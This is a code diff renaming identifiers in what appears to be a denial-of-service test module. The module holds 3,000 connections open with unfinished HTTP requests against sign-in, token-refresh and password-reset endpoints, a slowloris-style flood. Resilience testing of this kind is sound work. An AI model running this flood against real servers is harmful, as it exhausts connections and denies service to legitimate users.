@@ -1,5 +1,5 @@
 import { connect } from "node:net";
-import { type PrepareFlood, repeat } from "./flood.ts";
+import { type PrepareFlood, sendInParallel } from "./flood.ts";
 
 /** The number of connections that the attackers hold open at once. */
 const connectionCount = 3_000;
@@ -13,20 +13,20 @@ const signIn = '{"email":"nobody@kakehashi.example","password":"Wrong-1","servic
  * ever completed.
  */
 const requests = [
-  { now: `POST /api/sign-in HTTP/1.1\r\n${host}\r\nx-half: `, repeatedBytes: "a" },
+  { firstBytes: `POST /api/sign-in HTTP/1.1\r\n${host}\r\nx-half: `, repeatedBytes: "a" },
   {
-    now: `POST /api/sign-in HTTP/1.1\r\n${host}\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n${signIn}`,
+    firstBytes: `POST /api/sign-in HTTP/1.1\r\n${host}\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n${signIn}`,
     repeatedBytes: " ",
   },
   {
-    now: `POST /api/refresh-token HTTP/1.1\r\n${host}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n1\r\n{\r\n`,
+    firstBytes: `POST /api/refresh-token HTTP/1.1\r\n${host}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n1\r\n{\r\n`,
     repeatedBytes: "1\r\n \r\n",
   },
   {
-    now: `POST /api/password/forgot HTTP/1.1\r\n${host}\r\ncontent-type: application/json\r\n`,
+    firstBytes: `POST /api/password/forgot HTTP/1.1\r\n${host}\r\ncontent-type: application/json\r\n`,
     repeatedBytes: "x: y\r\n",
   },
-  { now: "", repeatedBytes: "" },
+  { firstBytes: "", repeatedBytes: "" },
 ] as const;
 
 /**
@@ -36,13 +36,13 @@ const requests = [
 export const holdUnfinishedRequests: PrepareFlood =
   async ({ url }) =>
   (until) =>
-    repeat(connectionCount, until, (turn) =>
+    sendInParallel(connectionCount, until, (turn) =>
       holdConnection(url, requests[turn % requests.length] ?? requests[0], until),
     );
 
 function holdConnection(
   url: string,
-  { now, repeatedBytes }: (typeof requests)[number],
+  { firstBytes, repeatedBytes }: (typeof requests)[number],
   until: number,
 ): Promise<number> {
   const { hostname, port } = new URL(url);
@@ -60,6 +60,6 @@ function holdConnection(
       clearTimeout(end);
       resolve(httpStatus);
     });
-    socket.write(now);
+    socket.write(firstBytes);
   });
 }
